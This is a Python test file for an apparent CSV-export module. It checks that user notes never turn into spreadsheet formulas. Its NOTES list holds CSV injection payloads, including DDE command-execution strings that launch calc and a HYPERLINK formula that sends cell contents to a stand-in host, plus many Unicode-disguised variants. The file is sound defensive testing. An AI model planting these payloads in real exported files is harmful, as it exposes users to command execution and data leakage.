"""Cells of a CSV file that stay what they are."""

from __future__ import annotations

import locale
from collections.abc import Iterator
from contextlib import contextmanager, suppress

import pytest
from hypothesis import given
from hypothesis import strategies as st

from coach.exchange.cells import from_cell, read_table, table, to_cell
from tests.exchange.spreadsheet import opened

#: Thirty notes that a spreadsheet would run, call or open, and their disguises.
NOTES = (
    "=1+1",
    '=HYPERLINK("https://bad.example/?x="&A1,"look")',
    "=cmd|' /C calc'!A0",
    "=IMPORTXML(CONCAT(A1))",
    "+1+1",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "@",
    "\t=1+1",
    "\t",
    "\r=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "\u3000＝1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "﹦1+1",
    "better today\n=1+1",
    "better today\r\n  -1+1",
    "worse;=1+1",
    "worse;\t@SUM(1)",
    'said "so";=1+1',
    '";=1+1',
    "\u200b=1+1",
    "\ufeff=1+1",
    "\x00=1+1",
)


def test_there_are_thirty_different_notes() -> None:
    """As many as were promised."""
    assert len(set(NOTES)) == 30


@pytest.mark.parametrize("separator", [",", ";", "\t"])
@pytest.mark.parametrize("note", NOTES)
def test_no_note_becomes_a_formula(note: str, separator: str) -> None:
    """Whatever a spreadsheet of another country splits at, no cell of the file is a formula."""
    text = table(("tightness", "note", "id"), [(3, note, "a"), (2, "fine", "b")])
    cells = [cell for row in opened(text, separator) for cell in row]
    assert not [cell for cell in cells if cell.kind == "formula"]


def test_the_model_of_a_spreadsheet_does_see_formulas() -> None:
    """Written without care, at least twenty of the notes would be formulas: the test before means something."""
    caught = 0
    for note in NOTES:
        raw = f'3,"{note.replace(chr(34), chr(34) * 2)}"\r\n'
        caught += any(cell.kind == "formula" for sep in ",;\t" for row in opened(raw, sep) for cell in row)
    assert caught >= 20


@pytest.mark.parametrize("note", [*NOTES, "'=already", "''", "'", "plain", "it's = fine", "' '=x", ""])
def test_the_way_back_changes_nothing(note: str) -> None:
    """What was marked is unmarked; what only looks so stays."""
    assert from_cell(to_cell(note)) == note


def test_ordinary_words_are_left_alone() -> None:
    """A minus or an equals sign inside a sentence is no formula."""
    for text in ("sat 3 h - then walked", "2 = better", "a, -2 after", "mail me@example", "'quoted'"):
        assert to_cell(text) == text


@given(st.text(st.sampled_from("=+-@'\t\r\n; ,\"a＝\u200b\u00a0"), max_size=12) | st.text(max_size=30))
def test_any_text_comes_back_and_is_never_a_formula(text: str) -> None:
    """For every text: the way back is exact, and each separator leaves it text."""
    assert from_cell(to_cell(text)) == text
    made = table(("n", "t"), [(1, text)])
    assert [row["t"] for row in read_table(made)] == [text]
    for separator in ",;\t":
        assert all(cell.kind != "formula" for row in opened(made, separator) for cell in row)


def test_numbers_are_numbers() -> None:
    """A spreadsheet can add them up; a negative one is no formula, and a text of digits is still text."""
    rows = opened(table(("a", "b", "c", "d", "e"), [(-2, 0.5, True, None, "-2")]))
    assert [cell.kind for cell in rows[1]] == ["number", "number", "text", "empty", "text"]
    assert [cell.shown for cell in rows[1]] == ["-2", "0.5", "yes", "", "'-2"]


@contextmanager
def _country(name: str) -> Iterator[None]:
    before = locale.setlocale(locale.LC_ALL)
    with suppress(locale.Error):  # not installed here: the C locale is one of them anyway
        locale.setlocale(locale.LC_ALL, name)
    yield
    locale.setlocale(locale.LC_ALL, before)


def test_every_country_writes_the_same_bytes() -> None:
    """No decimal comma, no other separator."""
    made = set()
    for name in ("C", "en_US.UTF-8", "de_DE.UTF-8", "fr_FR.UTF-8", "tr_TR.UTF-8"):
        with _country(name):
            made.add(table(("a", "b"), [(1.5, "ı"), (1000000, "x")]))
    assert made == {'\ufeff"a","b"\r\n1.5,"ı"\r\n1000000,"x"\r\n'}
